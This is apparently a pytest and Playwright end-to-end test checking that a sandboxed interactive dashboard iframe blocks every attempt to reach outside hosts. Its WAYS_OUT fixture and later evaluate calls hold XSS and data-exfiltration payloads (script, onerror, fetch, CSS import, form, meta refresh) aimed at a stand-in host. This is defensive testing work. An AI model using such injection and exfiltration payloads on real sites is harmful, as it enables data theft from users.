"""An interactive dashboard in a real browser: a slider changes a figure; and what its author wrote to get out of the frame does
not get out. Pictures are in ``artefacts/``.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.e2e import servers
from tests.e2e.test_hub_browser import sign_in, visit
from tests.e2e.test_pages_browser import OVERFLOW
from tests.hub_world import HubWorld, until
from tests.interactive_support import interactive

pytest.importorskip("voila")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(300),
    pytest.mark.skipif(not Path(servers.CHROMIUM).exists(), reason="Chromium is not on this machine"),
]
# What a reader sees with their rights, sent anywhere: by pictures, styles, scripts, a refresh, a link.
WAYS_OUT = """
from IPython.display import HTML, Javascript, Markdown
prise = f"{total:.2f}"
code = "document.documentElement.dataset.pris=1;top.postMessage('x','*');fetch('AILLEURS/f?d=" + prise + "')"
page = (
    f'<script>{code}</script><img src=x onerror="{code}"><svg onload="{code}"></svg>'
    f'<img src="AILLEURS/i?d={prise}"><link rel=stylesheet href="AILLEURS/s?d={prise}">'
    f'<div style="background:url(AILLEURS/b?d={prise})">.</div><iframe src="AILLEURS/c?d={prise}"></iframe>'
    f'<iframe srcdoc="<script>{code}</script>"></iframe><object data="AILLEURS/o"></object>'
    f'<form id=envoi action="AILLEURS/p"><input name=d value={prise}><button>x</button></form>'
    f'<style>@import url(AILLEURS/m?d={prise});</style>'
)
display(HTML(page), Javascript(code), Markdown(page), widgets.HTML(page))
"""


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server that nobody of ours has business with, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _any(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = do_OPTIONS = _any  # noqa: N815 -- the base class's names

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


# A machine that is so busy drawing that the widgets' manager, which looks every 100 ms, comes to look for the second time
# when its two seconds are over.
BUSY = "if (window !== top) { const later = window.setTimeout; window.setTimeout = (call, ms, ...rest) => later(call, ms === 100 ? 2500 : ms, ...rest); }"


def test_a_slider_changes_a_figure_and_nothing_gets_out(hub_world: HubWorld) -> None:
    with elsewhere() as (outside, heard), elsewhere() as (plain, _), visit(hub_world) as page:
        page.add_init_script(BUSY)
        dashboard, _ = interactive(hub_world, WAYS_OUT.replace("AILLEURS", outside))
        sign_in(page, hub_world, "viewer")
        page.wait_for_url("**/services/datapilot/**")
        here = f"{hub_world.url}/services/datapilot/tableaux/{dashboard}/interactif"
        page.goto(here)
        page.click("button:text-is('Ouvrir')")
        page.wait_for_selector("#dp-frame", timeout=120_000)
        frame = page.frame_locator("#dp-frame")
        frame.locator("#prevision:text-is('473.82')").wait_for(timeout=60_000)
        frame.locator(".js-plotly-plot .main-svg").nth(1).wait_for(state="attached")
        handle = frame.locator(".noUi-handle")
        handle.focus()
        for _ in range(5):
            handle.press("ArrowRight")
        frame.locator("#prevision:text-is('495.36')").wait_for(timeout=60_000)
        _pictures(page)

        inside = next(one for one in page.frames if one.url == f"{here}/page")
        assert inside.evaluate("self.origin") == "null"
        assert inside.evaluate("document.documentElement.dataset.pris ?? ''") == ""
        reached = "() => { try { return String(parent.document.title) } catch (error) { return error.name } }"
        assert inside.evaluate(reached) == "SecurityError"
        # Were its script taken over after all: no request of any kind leaves, its own origin's included.
        tried = """async ([outside, own]) => {
          const ask = (url) => new Promise((done) => {
            const asking = new XMLHttpRequest();
            asking.onload = () => done('left'); asking.onerror = () => done('stopped');
            asking.open('GET', url); asking.send();
          });
          new Image().src = outside; new Image().src = own;
          return [await ask(outside), await ask(own), navigator.sendBeacon(outside), (window.open(outside) ?? 'none')];
        }"""
        assert inside.evaluate(tried, [f"{outside}/x", here])[:2] == ["stopped", "stopped"]
        sent = f"try {{ document.getElementById('envoi')?.submit(); top.location = '{outside}/t' }} catch (error) {{ error.name }}"
        assert inside.evaluate(sent) == "SecurityError"
        page.wait_for_timeout(500)
        assert page.url == here
        refresh = f"<meta http-equiv='refresh' content='0;url={outside}/r'>"
        # Sent elsewhere itself, by a script or by mere markup, the frame goes nowhere.
        for way in (f"location = '{outside}/n?d=1'", f"document.body.insertAdjacentHTML('beforeend', {refresh!r})"):
            next(one for one in page.frames if one.url == f"{here}/page").evaluate(way)
            page.wait_for_timeout(1500)
            assert [one.url for one in page.frames if one.url.startswith(outside)] == []
            assert page.url == here
            page.reload()
            frame.locator("#prevision:text-is('495.36')").wait_for(timeout=60_000)

        page.locator("button:text-is('Fermer la session interactive')").press("Enter")
        page.wait_for_selector("button:text-is('Relancer')")
        assert heard == []
        page.goto(plain)  # what no policy holds does get there
        page.evaluate(f"new Image().src = '{outside}/temoin'")
        until(lambda: heard == ["/temoin"], 30)


def _pictures(page: Any) -> None:
    for scheme, width in (("light", 1280), ("dark", 390)):
        page.emulate_media(color_scheme=scheme)
        page.set_viewport_size({"width": width, "height": 1600})
        page.reload()  # as a telephone opens it; what was moved stays moved
        page.frame_locator("#dp-frame").locator("#prevision:text-is('495.36')").wait_for(timeout=60_000)
        page.frame_locator("#dp-frame").locator(".js-plotly-plot .main-svg").nth(1).wait_for()
        assert not page.evaluate(OVERFLOW), f"wider than {width}"
        page.screenshot(path=str(servers.ROOT / "artefacts" / f"interactive_{scheme}_{width}.png"), full_page=True)
    page.emulate_media(color_scheme="light")
    page.set_viewport_size({"width": 1280, "height": 860})
